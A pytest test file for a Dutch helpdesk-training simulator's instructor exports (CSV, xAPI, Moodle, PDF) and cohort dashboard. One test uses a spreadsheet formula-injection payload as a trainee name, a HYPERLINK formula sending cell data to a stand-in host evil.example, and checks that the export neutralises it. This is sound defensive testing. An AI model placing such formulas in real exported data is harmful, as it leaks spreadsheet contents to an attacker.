"""Exports of a call and a cohort: the right content type, a proper file name, and content that parses."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

import simulator.assessment.exports as exports_package
from simulator.adapters.db.models import Role, Verdict, VerdictOverride
from tests.e2e.web.conftest import login_as
from tests.e2e.web.instructor_data import first_judged, store_call

SCHEMA = json.loads((Path(exports_package.__file__).parent / "xapi-statement.schema.json").read_text())


@pytest.fixture
def taught(db, make_user, make_cohort):
    """An instructor's cohort of two trainees with one replayed call each; the first call is overridden."""
    instructor = make_user(role=Role.INSTRUCTOR, display_name="Ilse Instructeur")
    sam = make_user(role=Role.TRAINEE, display_name="Sam Cursist")
    noor = make_user(role=Role.TRAINEE, display_name="Noor Cursist")
    cohort = make_cohort(instructors=[instructor], trainees=[sam, noor], name="Groep Gent")
    strong = store_call(db, sam)
    store_call(db, noor, "printer-offline-angry-nl-weak")
    _, activity = first_judged(strong.report)
    db.add(
        VerdictOverride(
            session=strong, activity_id=activity, automatic_verdict=Verdict.MET, verdict=Verdict.NOT_MET,
            reason="Niet echt gedaan.", instructor_id=instructor.id,
        )
    )  # fmt: skip
    db.commit()
    return {"instructor": instructor, "cohort": cohort, "call": strong, "activity": activity}


@pytest.mark.parametrize(
    ("fmt", "media", "ext"),
    [
        ("csv", "text/csv", "csv"),
        ("xapi", "application/json", "json"),
        ("html", "text/html", "html"),
        ("moodle", "text/csv", "csv"),
        ("pdf", "application/pdf", "pdf"),
    ],
)
def test_a_session_export_is_a_named_download_of_the_right_type(client, taught, fmt, media, ext) -> None:
    login_as(client, taught["instructor"])
    response = client.get(f"/instructeur/sessies/{taught['call'].id}/export/{fmt}")
    assert response.status_code == 200
    assert response.mimetype == media
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"-{taught['call'].id}-" in disposition
    assert disposition.endswith(f'.{ext}"')
    if fmt == "pdf":
        assert response.data.startswith(b"%PDF")


def test_the_session_csv_carries_the_instructors_verdict(client, taught) -> None:
    login_as(client, taught["instructor"])
    body = client.get(f"/instructeur/sessies/{taught['call'].id}/export/csv").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and {r["trainee"] for r in rows} == {"Sam Cursist"}
    overridden = next(r for r in rows if r["activity"] == taught["activity"])
    assert overridden["verdict"] == "not_met"


def test_the_xapi_export_validates_against_the_schema(client, taught) -> None:
    login_as(client, taught["instructor"])
    statements = client.get(f"/instructeur/sessies/{taught['call'].id}/export/xapi").get_json()
    assert len(statements) > 2
    for statement in statements:
        jsonschema.validate(statement, SCHEMA)
    assert statements[0]["verb"]["id"].endswith("completed")
    assert statements[0]["timestamp"].startswith(taught["call"].started_at.date().isoformat())


def test_a_cohort_export_holds_every_trainees_calls(client, taught) -> None:
    login_as(client, taught["instructor"])
    response = client.get(f"/instructeur/groepen/{taught['cohort'].id}/export/csv")
    assert response.status_code == 200
    assert 'filename="eerstelijn-groep-gent-csv.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert {r["trainee"] for r in rows} == {"Sam Cursist", "Noor Cursist"}
    statements = client.get(f"/instructeur/groepen/{taught['cohort'].id}/export/xapi").get_json()
    assert len({s["context"]["registration"] for s in statements}) == 2  # one registration per call


def test_a_trainee_named_like_a_formula_is_text_in_the_cohort_csv(client, db, taught) -> None:
    trainee = taught["call"].trainee
    trainee.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    db.commit()
    login_as(client, taught["instructor"])
    body = client.get(f"/instructeur/groepen/{taught['cohort'].id}/export/csv").get_data(as_text=True)
    names = {r["trainee"] for r in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")' in names
    assert not any(name.startswith("=") for name in names)


def test_an_unknown_format_is_not_found(client, taught) -> None:
    login_as(client, taught["instructor"])
    assert client.get(f"/instructeur/sessies/{taught['call'].id}/export/docx").status_code == 404


def test_the_dashboard_shows_heatmap_progress_and_stuck_trainees(client, db, taught, make_assignment) -> None:
    from datetime import timedelta

    from simulator.adapters.db.base import utcnow

    make_assignment(taught["cohort"], exercise_id="password-reset-novice-nl", deadline=utcnow() + timedelta(hours=20))
    make_assignment(taught["cohort"], exercise_id="printer-offline-angry-nl", deadline=utcnow() + timedelta(days=9))
    login_as(client, taught["instructor"])
    page = client.get(f"/instructeur/groepen/{taught['cohort'].id}").get_data(as_text=True)
    heatmap = page[page.index('class="table heatmap"') : page.index("</table>", page.index('class="table heatmap"'))]
    assert "Sam Cursist" in heatmap and "Noor Cursist" in heatmap
    assert 'class="level level-3"' in heatmap  # the strong call scores a 3 somewhere, shown as colour and number
    assert "2 van 2" in page  # both trainees called the printer exercise
    stuck = page[page.index('id="vastgelopen-titel"') : page.index('id="heatmap-titel"')]
    assert "Sam Cursist" in stuck and "Noor Cursist" in stuck  # nobody did the password reset due tomorrow
    assert f"/instructeur/sessies/{taught['call'].id}" in page


def test_xapi_after_an_override_voids_the_replaced_statement_under_the_configured_base(app, client, db, taught) -> None:
    app.config["XAPI_BASE_URL"] = "https://leren.school.be/eerstelijn"
    login_as(client, taught["instructor"])
    statements = client.get(f"/instructeur/sessies/{taught['call'].id}/export/xapi").get_json()
    for statement in statements:
        jsonschema.validate(statement, SCHEMA)
        assert "version" not in statement
    voids = [s for s in statements if s["verb"]["id"] == "http://adlnet.gov/expapi/verbs/voided"]
    assert len(voids) == 1 and voids[0]["object"]["id"] not in {s["id"] for s in statements}
    sam = taught["call"].trainee
    actor = statements[0]["actor"]
    assert actor == {
        "objectType": "Agent",
        "account": {"homePage": "https://leren.school.be/eerstelijn", "name": sam.pseudonym},
    }
    assert all(
        s["object"]["id"].startswith("https://leren.school.be/eerstelijn/") for s in statements if s not in voids
    )
    again = client.get(f"/instructeur/sessies/{taught['call'].id}/export/xapi").get_json()
    assert [s["id"] for s in again] == [s["id"] for s in statements]


def test_the_csv_for_excel_is_semicolon_separated_with_a_bom(client, taught) -> None:
    login_as(client, taught["instructor"])
    response = client.get(f"/instructeur/sessies/{taught['call'].id}/export/csv-semicolon")
    assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbftrainee;exercise;")
    assert "CSV voor Excel" in client.get(f"/instructeur/sessies/{taught['call'].id}").get_data(as_text=True)


def test_the_moodle_framework_version_is_chosen_in_the_address(client, taught) -> None:
    login_as(client, taught["instructor"])
    body = client.get(f"/instructeur/sessies/{taught['call'].id}/export/moodle?versie=2").data.decode("utf-8")
    assert list(csv.reader(io.StringIO(body)))[1][1] == "BKD-2023-V2"
    assert client.get(f"/instructeur/sessies/{taught['call'].id}/export/moodle?versie=x").status_code == 404
